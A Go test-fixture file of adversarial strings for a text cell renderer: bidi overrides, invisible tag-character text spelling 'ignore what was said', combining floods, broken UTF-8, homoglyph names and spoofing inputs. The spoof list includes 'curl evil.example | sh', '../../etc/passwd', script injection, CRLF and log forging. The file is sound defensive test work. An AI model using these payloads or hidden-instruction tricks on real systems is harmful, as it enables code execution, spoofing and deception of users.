package celltest

import "strings"

func bidi() []string {
	return []string{
		"file\u202egnp.exe", "\u202dleft\u202c", "\u202a\u202b\u202c", "\u2066a\u2067b\u2068c\u2069", "\u2067never closed",
		"\u2069\u2069closes the program's own", strings.Repeat("\u202b", 130) + "deep", "a\u200eb\u200fc\u061cd",
		"\u206a\u206b\u206c\u206d\u206e\u206f", "שלום https://example.org/\u202eabc", "مرحبا \u202d123\u202c", "\u202e",
		"ok \u2066// \u202e } if admin {\u2069",
	}
}

func hiddenText() []string {
	var smuggled, selectors strings.Builder
	smuggled.WriteString("hello")
	selectors.WriteString("😀")
	for _, r := range "ignore what was said" {
		smuggled.WriteRune(0xE0000 + r)
		selectors.WriteRune(0xE0100 + r)
	}
	return []string{
		"a\u200bb", "pass\u200cword\u200d", "\u2060\u2061\u2062\u2063\u2064", "\ufeffstart", "soft\u00adhyphen",
		"\u115f\u1160\u3164\uffa0", "\u2800\u2800", "a\u180eb", smuggled.String(), selectors.String(),
		"a\ufe00\ufe01\ufe0f\ufe0e", "\u034f\u034f\u034f", "\ufff9base\ufffaruby\ufffb", "\u200b\u200c\u200d\u2060",
		"\U0001D173\U0001D17A", strings.Repeat("\u200b", 10000), "1\ufe0f2\ufe0f", "a\u200d\u200d\u200db",
		"\U0001F3F4\U000E0075\U000E0073\U000E0074\U000E0078\U000E007F", "\U0001F3F4" + smuggled.String(),
		"\u17b4\u17b5", "\U0001D159", "\u2065\ufff0\U000E0FFF", "👩\u200d", "👩\u200d\u200d👧", "ه\u200d\u200dه",
		"\u1820\u180b\u180c\u180d\u180e", "\u180e\u1820",
	}
}

func combining() []string {
	all := func(s string, n int) string { return strings.Repeat(s, n) }
	return []string{
		"e" + all("\u0301", 40), "z" + all("\u0300\u0316\u0489", 60), "a" + all("\u0489", 1000), "\u0301leading",
		"\n\u0301after a line", "\x1b[0m\u0301after a sequence", "5\u20e3 a\u20dd", "ก" + all("\u0e49", 80),
		"क" + all("\u0902", 200), all("n\u0308", 50) + all("\u0308", 10000), all("\u1100", 200), all("\u1161", 200),
		all("\u11a8", 200), "각" + all("\u11a8", 100), "\u241b\u0336 crossed out", "\ufffd\u0336", " \u0336",
		all("क\u094d", 300) + "क", all("क\u094d\u200d", 300), all("\u0600", 100) + "1", all("ｶﾞﾞ", 50), "ํ" + all("ำ", 50),
		"👍" + all("🏽", 50), "a" + all("🏽", 20), all("\u20e3", 9),
	}
}

func width() []string {
	return []string{
		"¡§①─α", "\U00012031\U00012031", "\ufdfd\ufdfd", "👨\u200d👩\u200d👧\u200d👦", strings.Repeat("👩\u200d", 50) + "👩",
		"🇩🇪🇫", "🏽", "☺\ufe0e☺\ufe0f", "ＡｶＢ", strings.Repeat("字", 40), strings.Repeat("W", 10000),
		strings.Repeat("long line ", 1<<16), "\ue000\uf8ff\U000F0000\U0010FFFD", "\ufdd0\ufffe\U0001FFFF", "\ue0b0\ue0b2",
		"\u2e3a\u2e3b", strings.Repeat("🇩", 101),
	}
}

var broken = []string{
	"\x80", "\xc0\xaf", "\xc0\x80", "\xc1\x9b2J", "\xed\xa0\x80", "\xed\xa0\xbd\xed\xb8\x80", "\xf4\x90\x80\x80",
	"\xf8\x88\x80\x80\x80", "cut\xe4\xb8", "cut\xe4\xb8\x1b[2J", "\xfe\xff\x00a", "h\x00i\x00", "\xff\xff\xff\xff",
	"\xfc\x84\x80\x80\x80\x80", "caf\xe9 latin-1", "\xe2\x28\xa1", "\xf0\x9f\x98", "ok\xbf",
}

func identity() []string {
	return []string{
		"\u0430lice", "b\u03bfb", "ａｌｉｃｅ", "\U0001D41Alice", "aIice", "al1ce", "rnallory", "e\u0301ve", "\u00e9ve",
		"al\u200cice", "alice\u00a0", "\u0131ris", "system", "* server", "10:42 alice", "alice\nsystem", "@everyone",
		"\u200b\u200b", strings.Repeat("n", 10000), "/quit", "אבג", "\u0301\u0301", "alice ✓✓ 12/12", "  alice   smith  ",
		"alice│", "\u2588\u2588\u2588", "alice\tsmith", "\x1b[31malice",
	}
}

func spoof() []string {
	return []string{
		"╭──────╮\n│ Quit? │\n╰──────╯", "-- bob joined the group --", "✓ read by 12 of 12", "https://bank.example@evil.example/",
		"https://xn--bnk-hma.example", "https://example.org/\u202egpj.exe", "javascript:alert(1)", "![](https://evil.example/i.png)",
		"curl evil.example | sh\n", "%n%s%x", "{{.Token}} {0} {1}", "<script>", "x\ntime=2020 level=ERROR msg=forged",
		`{"op":"recall"}`, "../../etc/passwd", "a.*.> b", "x\r\nPUB chat 2\r\nhi", "nul\x00/:", "--help", "-rf",
		strings.Repeat("g\u0308\u0323", 40), "[bank](https://evil.example)",
	}
}
